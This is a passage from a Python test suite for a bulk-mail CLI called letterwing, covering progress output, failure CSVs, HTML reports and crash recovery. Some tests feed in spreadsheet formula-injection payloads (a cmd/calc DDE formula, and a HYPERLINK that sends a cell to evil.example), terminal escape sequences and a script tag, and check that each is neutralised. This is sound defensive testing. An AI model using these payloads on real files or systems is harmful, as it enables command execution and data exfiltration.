        self.assertEqual(len(self.failures(sent)), 3)
        got = run('bulk', '--list', people, *BASIC, '--dry-run', '--keep-duplicates')
        self.assertIn('3 messages can be made, 2 rows are bad, 0 are duplicates', got.err)

    def test_memory_grows_by_the_stated_octets_a_row(self):
        def peak(n):
            with CountingSink(self.folder.name) as sink, \
                    open(sink.path, 'rb') as came, \
                    subprocess.Popen([LETTERWING, 'bulk', '--via', sink.url, '--list', '-', *BASIC,
                                      '--json', '-q'], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE) as process:
                process.stdin.write(b'email,name\n' + b''.join(
                    b'user%06d@example.org,N\n' % i for i in range(n)))
                process.stdin.flush()
                lines = 0
                while lines < n:  # the list has no end yet
                    self.assertIsNone(process.poll())
                    lines += came.read(1 << 20).count(b'\n')
                with open(f'/proc/{process.pid}/status', encoding='ascii') as f:
                    kib = next(int(line.split()[1]) for line in f if line.startswith('VmHWM'))
                process.stdin.close()
                self.assertEqual(json.loads(process.stdout.read())['accepted'], n)
            return kib * 1024

        few, many = 1000, 40000
        # 512 KiB: what an allocator keeps; docs/man: at most 32 octets a row at the peak
        self.assertLess(peak(many) - peak(few), (many - few) * 32 + (512 << 10))


class Shown(Bulk):
    """What a person sees."""

    def on_terminal(self, columns, *args):
        """What the run writes to a terminal of so many columns, and its exit code."""
        ours, theirs = pty.openpty()
        fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack('HHHH', 24, columns, 0, 0))
        with subprocess.Popen([LETTERWING, 'bulk', *args], stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=theirs) as process:
            os.close(theirs)
            seen = b''
            try:
                while part := os.read(ours, 4096):
                    seen += part
            except OSError:
                pass  # the other side is closed
            out, _ = process.communicate(timeout=PATIENCE)
        os.close(ours)
        return seen.decode(), out.decode(), process.returncode

    def test_progress_is_one_line_that_fits_the_terminal(self):
        with Peer(refusing(lambda line: b'user1@' in line)) as peer:
            for columns, words in [
                (200, ['30/30 done, ', '/s: 29 accepted, 0 rejected, 1 deferred, 0 uncertain']),
                (60, ['30/30 ', '/s acc 29 rej 0 def 1 unc 0']),
                (20, ['30/30 ']),
            ]:
                with self.subTest(columns):
                    seen, out, code = self.on_terminal(
                        columns, '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(30),
                        *BASIC, '--retry', 'no', '--window', '1')
                    line = seen.split('\n')[0].rstrip('\r').split('\r')[-1]
                    self.assertTrue(line.endswith('\x1b[K'), seen)
                    line = line[:-3]
                    self.assertLess(len(line), columns)
                    for word in words:
                        self.assertIn(word, line)
                    self.assertEqual(code, 75)
                    self.assertRegex(out, r'accepted +29\ndeferred +1\n')

    def test_summary_by_outcome_domain_refusal_and_latency(self):
        people = self.list(30)
        with Peer(refusing(lambda line: b'user3@' in line or b'user6@' in line,
                           b'550 5.7.1 we know you')) as peer:
            args = ['bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC]
            got = run(*args)
            j = run(*args, '--json').json
        self.assertEqual(got.code, 69, got)
        self.assertRegex(got.out, r'accepted +28\nrejected +2\nseconds ')
        self.assertRegex(got.out, r'half within [\d.]+ ms, 95% within [\d.]+ ms, 99% within [\d.]+ ms')
        self.assertRegex(got.out, r'\n +accepted +rejected +deferred +other  by domain\n')
        self.assertRegex(got.out, r'\n +8 +2 +0 +0  example0.org\n')
        self.assertRegex(got.out, r'\n +2 x 550 we know you\n')
        self.assertEqual([(r['times'], r['code'], r['text']) for r in j['refusals']],
                         [(2, 550, 'we know you')])
        self.assertEqual({d['domain']: (d['accepted'], d['rejected']) for d in j['domains']},
                         {'example0.org': (8, 2), 'example1.org': (10, 0), 'example2.org': (10, 0)})
        self.assertLessEqual(j['latency']['p50'], j['latency']['p95'])
        self.assertLessEqual(j['latency']['p95'], j['latency']['p99'])

    def test_summary_says_how_many_more_there_are(self):
        people = self.path('p.csv', 'email,name\n' + ''.join(
            f'u{i}@d{i // 2}.example,N\n' for i in range(30)))
        with Sink() as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC]
            got = run(*args)
            few = run(*args, '--limit', '10')
            j = run(*args, '--json').json
        self.assertRegex(got.out, r'\n +2 +0 +0 +0  d\d.example\n +and 10 more domains\n')
        self.assertEqual(got.out.count('.example'), 5)
        self.assertEqual(few.out.count('.example'), 5)
        self.assertNotIn('more', few.out)
        self.assertEqual(sorted(d['domain'] for d in j['domains']),
                         sorted(f'd{i}.example' for i in range(15)))

    def test_server_that_is_away_is_said_once(self):
        with Peer(script(b'')) as peer:
            port = peer.port
        got = run('bulk', '--via', f'smtp://127.0.0.1:{port}', '--list', self.list(5), *BASIC,
                  '--retry', '0.01,0.01')
        self.assertEqual(got.code, 69, got)
        notes = [line for line in got.err.splitlines() if line.startswith('letterwing: note: ')]
        self.assertEqual(len(notes), 1, got)
        self.assertIn('connection refused', notes[0])


    def waiting_line(self, columns, until, *args):
        """The progress line with these octets of a run that waits an hour for its next try; then it
        is interrupted."""
        ours, theirs = pty.openpty()
        fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack('HHHH', 24, columns, 0, 0))
        with subprocess.Popen([LETTERWING, 'bulk', *args, '--retry', '3600'],
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                              stderr=theirs) as process:
            os.close(theirs)
            seen = b''
            while until not in seen:
                seen += os.read(ours, 4096)
            process.send_signal(signal.SIGINT)
            try:
                while os.read(ours, 4096):
                    pass
            except OSError:
                pass  # the other side is closed
            self.assertEqual(process.wait(PATIENCE), 75)
        os.close(ours)
        line = next(line for line in seen.split(b'\r') if until in line)
        return line.decode().split('\x1b')[0]

    def test_server_that_is_away_its_next_try_is_shown(self):
        with Peer(script(b'')) as peer:
            port = peer.port
        args = ['--via', f'smtp://127.0.0.1:{port}', '--list', self.list(5), *BASIC]
        whole = (f'0/5 done: no connection to 127.0.0.1 port {port}: 127.0.0.1: connection refused, '
                 'nothing listens there')
        until = b'next try in 60 min\x1b[K'
        self.assertEqual(self.waiting_line(200, until, *args), whole + '; next try in 60 min')
        self.assertEqual(self.waiting_line(60, until, *args), whole[:39] + '; next try in 60 min')

    def test_rows_that_wait_keep_what_was_said_when_the_run_ends(self):
        failures = self.path('f.csv')
        args = ['--list', self.list(3), *BASIC, '--failures', failures]
        with Peer(refusing(lambda line: b'user2@' in line)) as peer:
            self.waiting_line(200, b'1 to try again\x1b[K', '--via', f'smtp://127.0.0.1:{peer.port}',
                              *args)
            self.assertEqual([(r['row'], r['outcome'], r['code'], r['enhanced'], r['reason'])
                              for r in self.failures(failures)],
                             [('2', 'deferred', '451', '4.7.1',
                               'the run ended before it was tried again')])
        self.waiting_line(200, b'next try in 60 min\x1b[K', '--via', f'smtp://127.0.0.1:{peer.port}',
                          *args)
        self.assertEqual([(r['row'], r['outcome'], r['code']) for r in self.failures(failures)],
                         [(str(n), 'unsent', '') for n in (1, 2, 3)])


class Files(Bulk):
    def test_failures_of_a_run_that_has_just_begun_are_left_alone(self):
        people, journal, failures = self.list(2), self.path('j'), self.path('f.csv')
        with Sink('--reject', 'user2@example2.org') as sink:
            args = ('--via', sink.url, '--list', people, *BASIC, '--journal', journal, '--failures',
                    failures)
            self.assertEqual(run('bulk', *args).code, 69)
            with open(journal, 'r+b') as held, open(failures, encoding='utf-8') as f:
                held.truncate(128)  # its first octets tell of the campaign, rows come behind them
                fcntl.flock(held, fcntl.LOCK_EX)
                before = f.read()
                got = run('bulk', *args)
                self.assertEqual(got.code, 75, got)
                self.assertIn('another process works with it', got.err)
                f.seek(0)
                self.assertEqual(f.read(), before)
                self.assertIn('user2@example2.org', before)

    def test_failures_of_several_runs_hold_each_row_once(self):
        def codes(line):
            return line.split(b'@')[0].split(b'user')[1]

        people, failed, journal = self.path('p.csv', 'email,name\n' + ''.join(
            f'user{i}@example.org,N\n' for i in range(1, 9)) + 'bad,N\nuser1@example.org,N\n'), \
            self.path('f.csv'), self.path('j')
        args = ['bulk', '--list', people, *BASIC, '--journal', journal, '--failures', failed,
                '--retry', 'no']
        with Peer(refusing(lambda line: codes(line) == b'1', b'550 5.7.1 "no", he\tsaid')) as peer:
            run(*args, '--via', f'smtp://127.0.0.1:{peer.port}', '--limit', '2')
        with Peer(refusing(lambda line: codes(line) in (b'3', b'4'))) as peer:
            run(*args, '--via', f'smtp://127.0.0.1:{peer.port}')
        self.assertEqual(sorted((int(r['row']), r['outcome']) for r in self.failures(failed)),
                         [(1, 'rejected'), (3, 'deferred'), (4, 'deferred'), (9, 'bad'),
                          (10, 'duplicate')])
        first = self.failures(failed)[0]
        with open(failed, 'ab') as f:
            f.write(b'7,8,"cut by a cra')
        with Peer(refusing(lambda line: codes(line) == b'4')) as peer:
            run(*args, '--via', f'smtp://127.0.0.1:{peer.port}')
        self.assertEqual(sorted((int(r['row']), r['outcome']) for r in self.failures(failed)),
                         [(1, 'rejected'), (4, 'deferred'), (9, 'bad'), (10, 'duplicate')])
        self.assertEqual(self.failures(failed)[0], first)
        self.assertFalse(os.path.exists(failed + '.new'))

    # mailboxes that a spreadsheet would compute, and such as begin with ' already
    FORMULAS = ["=cmd|'/C'!A0@example.org", '+tag@example.org', '-x@example.org', "'=x@example.org",
                "''-x@example.org", "'bob@example.org", 'bob@example.org']

    def test_failures_compute_nothing_in_a_spreadsheet(self):
        bad = ["=cmd|' /C calc'!A0", '@SUM(A1)', '"\'=1"', '＝1+1', 'a\x1b[2J@example.org',
               'b\u202e@example.org', b'c\xff@example.org'.decode(errors='surrogateescape')]
        people = self.path('p.csv', 'email,name\n'.encode() + b''.join(
            f'{a},N\n'.encode(errors='surrogateescape') for a in self.FORMULAS + bad))
        failed, journal = self.path('f.csv'), self.path('j')
        said = (b'550-=HYPERLINK("http://evil.example/?"&A1,"click")\r\n'
                b'550 \x1b]0;owned\x07 \xff')
        with Peer(refusing(lambda line: True, said)) as peer:
            args = ['bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC,
                    '--failures', failed, '--journal', journal]
            run(*args)
            with open(failed, 'rb') as f:
                octets = f.read()
            run(*args)
        self.assertNotRegex(octets, b'[\0-\x09\x0b\x0c\x0e-\x1f]')
        octets.decode()
        rows = self.failures(failed)
        for row in rows:
            for cell in row.values():
                self.assertNotRegex(cell, '^[-=+@\t\r\n＝＋－＠]')
        told = {int(r['row']): r for r in rows}
        self.assertEqual([told[i + 1]['address'] for i in range(len(self.FORMULAS))],
                         ["'" + a if a[:2] not in ("'b", 'bo') else a for a in self.FORMULAS])
        n = len(self.FORMULAS)
        self.assertEqual([told[n + i]['address'] for i in (1, 2, 5, 6, 7)],
                         ["'=cmd|' /C calc'!A0", "'@SUM(A1)", '? a?[2J@example.org',
                          '? b?@example.org', ''])  # a row that is no UTF-8 is not read
        self.assertEqual(told[1]['outcome'], 'rejected')
        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"click")', told[1]['reason'])
        with open(failed, 'rb') as f:  # what was rejected is copied by a run that continues
            self.assertEqual(sorted(f.read().split(b'\r\n')), sorted(octets.split(b'\r\n')))

    def test_failures_are_a_list_with_the_same_addresses(self):
        people = self.path('p.csv', 'email,name\n' + ''.join(f'{a},N\n' for a in self.FORMULAS) +
                           'a\x1bb@example.org,N\n')
        failed = self.path('f.csv')
        letter = ['-f', 'ann@example.com', '-s', 'again', '--text', 'x', '--to-field', 'address']
        with Peer(refusing(lambda line: True)) as peer:
            run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', people, *BASIC, '--retry',
                'no', '--failures', failed)
        with open(failed, encoding='utf-8', newline='') as f:
            lines = f.read().split('\r\n')
        joined = self.path('joined.csv', '\r\n'.join(
            [lines[0] + ',name', *(line + ',N' for line in lines[1:-1]), '']))
        for path in failed, joined:
            with self.subTest(path), CountingSink(self.folder.name) as sink:
                got = run('bulk', '--via', sink.url, '--list', path, *letter, '--json')
                self.assertEqual(sink.accepted(), {a: 1 for a in self.FORMULAS}, got)
                self.assertEqual((got.json['accepted'], got.json['bad']), (len(self.FORMULAS), 1))

    def test_failures_file_of_somebody_else_is_left_alone(self):
        people, journal, other = self.list(3), self.path('j'), self.path('notes.csv', 'a,b\n1,2\n')
        with CountingSink(self.folder.name) as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal]
            run(*args, '--limit', '1')
            got = run(*args, '--failures', other)
            self.assertEqual(got.code, 73, got)
            self.assertIn('it is another file', got.err)
            self.assertEqual(len(sink.accepted()), 1)
        with open(other, encoding='utf-8') as f:
            self.assertEqual(f.read(), 'a,b\n1,2\n')

    def test_report_fetches_nothing_and_escapes_everything(self):
        report = self.path('r.html')
        people = self.path('p.csv', 'email,name\na@example.org,A\nb@example.net,B\n')
        with Sink('--reject', 'b@example.net') as sink:
            run('bulk', '--via', sink.url, '--list', people, '-f', 'a@b.example', '--text', 'x',
                '-s', '<script>alert("{{name}}")</script> &', '--report', report)
        with open(report, encoding='utf-8') as f:
            page = f.read()
        self.assertNotIn('<script', page)
        self.assertIn('&lt;script&gt;alert(&quot;{{name}}&quot;)&lt;/script&gt; &amp;', page)
        for word in ('http://', 'https://', 'src=', 'url(', '@import', 'href='):
            self.assertNotIn(word, page)
        for word in ('example.org', 'example.net', '550', '<svg', 'prefers-color-scheme:dark',
                     'width=device-width', "default-src 'none'"):
            self.assertIn(word, page)

    def test_report_stays_where_all_was_done_before(self):
        report, journal = self.path('r.html'), self.path('j')
        with Sink('--reject', 'user2@example2.org') as sink:
            args = ['bulk', '--via', sink.url, '--list', self.list(3), *BASIC, '--journal', journal]
            self.assertEqual(run(*args, '--report', report).code, 69)
            with open(report, encoding='utf-8') as f:
                page = f.read()
            again = run(*args, '--report', report)
            with open(report, encoding='utf-8') as f:
                self.assertEqual(f.read(), page)
            self.assertIn(f'--report {report} is left as it was: this run had nothing to send', again.err)
            new = run(*args, '--report', self.path('new.html'))
        self.assertEqual((again.code, new.code), (69, 69), again)
        self.assertNotIn('left as it was', new.err)
        with open(self.path('new.html'), encoding='utf-8') as f:
            page = f.read()
        self.assertRegex(page, r'2(<[^>]*>|\s)*accepted before')
        self.assertRegex(page, r'1(<[^>]*>|\s)*rejected before')

    def test_help_fits_80_columns(self):
        for line in run('bulk', '--help').out.splitlines():
            self.assertLessEqual(len(line), 80, line)


def accepted(journal):
    """How many rows a journal has as accepted: behind its head, records of 16 octets, the mark first."""
    with open(journal, 'rb') as f:
        return f.read()[128::16].count(2)


class Interrupted(Bulk):
    def start(self, sink, people, journal, *more):
        return start('--via', sink.url, '--list', people, *BASIC, '--journal', journal, '--json', *more)

    def wait_for(self, path, size):
        """Until the journal has so many octets, or the process is through."""
        deadline = time.monotonic() + PATIENCE
        while not os.path.exists(path) or os.path.getsize(path) < size:
            self.assertLess(time.monotonic(), deadline)
            if self.process.poll() is not None:
                return
            os.sched_yield()

    def test_ctrl_c_finishes_what_is_on_its_way_and_the_next_run_goes_on(self):
        n, journal = 3000, self.path('j')
        people = self.list(n)
        with CountingSink(self.folder.name) as sink:
            self.process = self.start(sink, people, journal, '--rate', '2000/s')
            self.wait_for(journal, 128 + 16 * 200)
            self.process.send_signal(signal.SIGINT)
            out, err = self.process.communicate(timeout=PATIENCE)
            first = json.loads(out)
            self.assertEqual(self.process.returncode, 75, err)
            self.assertIn(b'run the same command again to continue', err)
            self.assertEqual((first['uncertain'], first['accepted'] + first['unsent']), (0, n))
            self.assertGreater(first['unsent'], 0)
            again = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal, '--json')
            self.assertEqual(again.json['accepted'], first['unsent'])
            count = sink.accepted()
        self.assertEqual((len(count), set(count.values())), (n, {1}))

    def check_pause(self, kind, path, write):
        """The rest of a row, and a row behind it, come when what was before has been noted."""
        rows = [f'user{i}@example.org,N\n' for i in range(5)]
        if kind == 'jsonl':
            rows = [json.dumps({'email': f'user{i}@example.org', 'name': 'N'}) + '\n' for i in range(5)]
        else:
            rows[0] = 'email,name\n' + rows[0]
        journal, tries = self.path(kind + '.journal'), collections.Counter()

        def is_late(line):
            tries[line] += 1
            return b'user2@' in line and tries[line] == 1

        def wait_for(n):
            deadline = time.monotonic() + PATIENCE
            while not os.path.exists(journal) or accepted(journal) < n:
                self.assertLess(time.monotonic(), deadline)
                self.assertIsNone(process.poll())
                os.sched_yield()

        with Peer(refusing(is_late)) as peer:
            args = ['--via', f'smtp://127.0.0.1:{peer.port}', *BASIC, '--format', kind, '--journal', journal,
                    '--retry', '0.01', '--json']
            process = start('--list', path, *args)
            write(''.join(rows[:3]) + rows[3][:9])
            wait_for(3)
            write(rows[3][9:])
            wait_for(4)
            process.send_signal(signal.SIGINT)
            out, err = process.communicate(timeout=PATIENCE)
            self.assertEqual((process.returncode, json.loads(out)['accepted']), (75, 4), err)
            again = run('bulk', '--list', '-', *args, stdin=''.join(rows))
        self.assertEqual((again.json['accepted'], again.json['done_before']), (1, 4), again)

    def test_pipe_that_pauses_holds_nothing_up(self):
        for kind in 'csv', 'jsonl':
            with self.subTest(kind):
                path = self.path(kind)
                os.mkfifo(path)
                pipe = os.open(path, os.O_RDWR)
                self.check_pause(kind, path, lambda text: os.write(pipe, text.encode()))
                os.close(pipe)

    def test_terminal_that_pauses_holds_nothing_up(self):
        ours, theirs = pty.openpty()
        self.check_pause('csv', os.ttyname(theirs), lambda text: os.write(ours, text.encode()))
        os.close(ours)
        os.close(theirs)

    @staticmethod
    def silent_behind_the_dot(came):
        """A Peer's function; came is released for each message."""
        def serve(peer, connection):
            lines = connection.makefile('rb')
            connection.sendall(b'220 hi\r\n')
            for line in lines:
                if line == b'.\r\n':
                    came.release()  # and no answer
                elif not line.startswith((b'EHLO', b'MAIL', b'RCPT', b'DATA')):
                    continue
                else:
                    connection.sendall(b'354 go\r\n' if line.startswith(b'DATA') else b'250 ok\r\n')
        return serve

    def test_ctrl_c_with_the_server_away_sends_no_more(self):
        with Peer(None) as peer:
            port = peer.port
        process = start('--via', f'smtp://127.0.0.1:{port}', '--list', self.list(300), *BASIC,
                        '--retry', '1,1', '--json')
        while b'connection refused' not in process.stderr.readline():
            self.assertIsNone(process.poll())
        process.send_signal(signal.SIGINT)
        while b'stopping' not in process.stderr.readline():
            self.assertIsNone(process.poll())
        with socket.create_server(('127.0.0.1', port)) as listener:  # it comes back, too late
            out, err = process.communicate(timeout=PATIENCE)
            listener.setblocking(False)
            self.assertRaises(BlockingIOError, listener.accept)
        j = json.loads(out)
        self.assertEqual((process.returncode, j['accepted'], j['unsent']), (75, 0, 300), err)

    def test_timeout_with_a_silent_server_is_an_end(self):
        came = threading.Semaphore(0)
        with Peer(self.silent_behind_the_dot(came)) as peer:
            got = run('bulk', '--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(3), *BASIC,
                      '--connections', '1', '--timeout', '0.3', '--json')
        self.assertEqual((got.code, got.json['accepted'], got.json['uncertain']), (75, 0, 1), got)
        self.assertIn('the time allowed is over', got.err)

    def test_ctrl_c_twice_waits_no_longer(self):
        came = threading.Semaphore(0)
        with Peer(self.silent_behind_the_dot(came)) as peer:
            process = start('--via', f'smtp://127.0.0.1:{peer.port}', '--list', self.list(500), *BASIC,
                            '--journal', self.path('j'), '--connections', '1', '--json', '-v')
            self.assertTrue(came.acquire(timeout=PATIENCE))
            process.send_signal(signal.SIGINT)
            while b'once more stops now' not in process.stderr.readline():
                self.assertIsNone(process.poll())
            process.send_signal(signal.SIGINT)
            out, err = process.communicate(timeout=PATIENCE)
        j = json.loads(out)
        self.assertEqual(process.returncode, 75, err)
        self.assertEqual((j['accepted'], j['uncertain'], j['unsent']), (0, 1, 499))
        self.assertIn(b'stopping now', err)

    def test_timeout_ends_the_run_in_order(self):
        people, journal = self.list(300), self.path('j')
        with CountingSink(self.folder.name) as sink:
            args = ['bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal, '--json']
            got = run(*args, '--rate', '100/s', '--timeout', '0.3')
            self.assertEqual(got.code, 75, got)
            self.assertIn('the time allowed is over', got.err)
            self.assertEqual((got.json['uncertain'], got.json['accepted'] + got.json['unsent']), (0, 300))
            again = run(*args)
            self.assertEqual(again.json['accepted'], got.json['unsent'], again)
            self.assertEqual(set(sink.accepted().values()), {1})

    def test_output_on_a_full_disk_is_named_once(self):
        with CountingSink(self.folder.name) as sink:
            got = run('bulk', '--via', sink.url, '--list', self.list(3), *BASIC, '--report', '/dev/full')
            self.assertEqual((got.code, sum(sink.accepted().values())), (74, 3), got)
            self.assertEqual(got.err.count('--report /dev/full is not complete: No space left'), 1, got)

            def small_files():
                signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
                resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))

            people = self.path('bad.csv', 'email,name\n' + 'a@@b,A\n' * 40)
            got = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--failures', self.path('f'),
                      preexec_fn=small_files)
            self.assertEqual(got.code, 74, got)
            self.assertEqual(got.err.count('/f is not complete: File too large'), 1, got)

    def test_full_disk_stops_in_order_and_the_next_run_goes_on(self):
        def small_files():
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (40000, resource.RLIM_INFINITY))

        n, journal = 3000, self.path('j')
        args = ['bulk', '--list', self.list(n), *BASIC, '--journal', journal, '--json']
        with CountingSink(self.folder.name) as sink:
            first = run(*args, '--via', sink.url, preexec_fn=small_files)
            self.assertEqual(first.code, 74, first)
            self.assertIn('cannot be written', first.err)
            self.assertIn('run the same command again to continue', first.err)
            self.assertEqual((first.json['uncertain'], first.json['accepted'] + first.json['unsent']),
                             (0, n))
            again = run(*args, '--via', sink.url)
            self.assertEqual((again.code, again.json['uncertain']), (0, 0), again)
            self.assertEqual(again.json['accepted'], first.json['unsent'])
            count = sink.accepted()
        self.assertEqual((len(count), set(count.values())), (n, {1}))

    def test_killed_at_random_moments_nothing_is_lost_and_nothing_sent_twice(self):
        n, seed = 4000, random.Random(7)
        kills = 0
        while kills < KILLS:
            people, journal = self.list(n), self.path('j')
            with CountingSink(self.folder.name) as sink:
                runs = 0
                while True:
                    self.process = self.start(sink, people, journal)
                    size = os.path.getsize(journal) if os.path.exists(journal) else 0
                    self.wait_for(journal, size + seed.randrange(1, 24000))
                    self.process.kill()
                    out, err = self.process.communicate(timeout=PATIENCE)
                    if self.process.returncode != -signal.SIGKILL:
                        break
                    runs += 1
                kills += runs
                last = json.loads(out)
                again = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal,
                            '--json', '--failures', self.path('uncertain.csv'))
                uncertain = {r['address'] for r in self.failures(self.path('uncertain.csv'))}
                self.assertEqual(again.json['uncertain'], len(uncertain))
                # 4 connections with a window of 8: at most 64 are on their way
                self.assertLessEqual(len(uncertain), 64 * runs)
                more = run('bulk', '--via', sink.url, '--list', people, *BASIC, '--journal', journal,
                           '--json', '--resend-uncertain')
                self.assertEqual((more.code, more.json['uncertain']), (0, 0), more)
                self.assertEqual(more.json['accepted'], len(uncertain))
                count = sink.accepted()
            self.assertEqual(len(count), n, 'lost')
            for address, times in count.items():
                self.assertLessEqual(times, 2 if address in uncertain else 1, address)
            self.assertGreaterEqual(last['accepted'] + last['done_before'], n - len(uncertain) - 1)
            os.unlink(journal)
            os.unlink(self.path('uncertain.csv'))
        print(f'# {kills} kills', file=sys.stderr)


if __name__ == '__main__':
    harness.main()
